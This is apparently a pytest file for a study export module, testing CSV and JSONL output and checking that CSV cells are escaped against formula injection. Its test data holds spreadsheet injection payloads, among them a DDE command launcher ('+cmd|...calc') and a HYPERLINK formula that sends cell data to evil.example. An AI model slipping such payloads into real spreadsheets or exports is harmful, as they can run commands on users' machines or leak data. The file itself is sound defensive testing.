"""The export: CSV and JSONL rows, and human results in the model-result schema."""

import csv
import io
import json
from collections import Counter

import pytest

from structext_core.structext_eval import study as structext_study
from structext_core.studio import study
from tests.studio.study.support import policy_all_half_none, run_study


def test_export_rows_csv_and_jsonl(db, samples, annotators):
    study_id = run_study(db, samples, annotators, policy_all_half_none, n_items=4)
    rows = study.export_rows(db, study_id)
    assert len(rows) == 12
    first = rows[0]
    assert list(first) == study.export_columns("structext-eval")
    assert first["first_shown_at"].endswith("+00:00") and first["elapsed_seconds"] > 0
    parsed = list(csv.DictReader(io.StringIO(study.to_csv(rows))))
    assert len(parsed) == 12 and parsed[0]["sample_id"] == first["sample_id"]
    lines = study.to_jsonl(rows).splitlines()
    assert [json.loads(line) for line in lines] == rows
    gave_up = [r for r in rows if r["annotator"] == "ann3"]
    assert all(r["gave_up"] and r["score"] == 0 for r in gave_up)


def test_human_results_follow_the_model_result_schema(db, samples, annotators):
    study_id = run_study(db, samples, annotators, policy_all_half_none, n_items=4)
    rows = study.human_results(db, study_id)
    models = Counter(r["model"] for r in rows)
    assert models == {"human:ann1": 4, "human:ann2": 4, "human:ann3": 4, "human": 12}
    for row in rows:
        assert {"sample_id", "model", "prompt", "response", "rouge_l", "score", "exact_match"} <= set(row)
        json.dumps(row)
    pool = [r["score"] for r in rows if r["model"] == "human"]
    assert sum(pool) / len(pool) == pytest.approx(0.5)


FORMULAS = ["=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+2", "\r=1+2"]


def test_the_csv_export_writes_no_formula_and_the_jsonl_keeps_the_text(db, samples, annotators):
    """Issue 19, item 8: answers and a study name a spreadsheet would run."""
    study_id = structext_study.create_study(db, name='=HYPERLINK("http://evil.example/?"&A1,"x")', suite="test-hard",
                                  samples=samples, n_items=6, annotator_ids=[annotators[0]["id"]],
                                  practice_items=1, gold_items=1)
    user_id = annotators[0]["id"]
    study.accept_rule(db, study_id, user_id)
    typed = [*FORMULAS, "-2", "plain"]
    while (view := study.open_question(db, study_id, user_id)) is not None:
        study.submit_answer(db, user_id, view.assignment_id, typed.pop(0))
    for kinds in (study.COUNTED_KINDS, ("practice", "gold")):
        rows = study.export_rows(db, study_id, kinds=kinds)
        text = study.to_csv(rows, study.export_columns("structext-eval"))
        parsed = list(csv.reader(io.StringIO(text, newline="")))
        assert len(parsed) == len(rows) + 1  # no cell broke a line
        cells = [cell for row in parsed for cell in row]
        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
        assert not [c for c in cells if c.startswith("-") and c != "-2" and not c.lstrip("-").replace(".", "").isdigit()]
        assert all(row[0] == "'" + rows[0]["study"] for row in parsed[1:])
        # The JSONL keeps every text exactly.
        assert [json.loads(line) for line in study.to_jsonl(rows).splitlines()] == rows
    responses = {r["response"] for r in study.export_rows(db, study_id)} | {
        r["response"] for r in study.export_rows(db, study_id, kinds=("practice", "gold"))}
    assert set(FORMULAS) <= responses
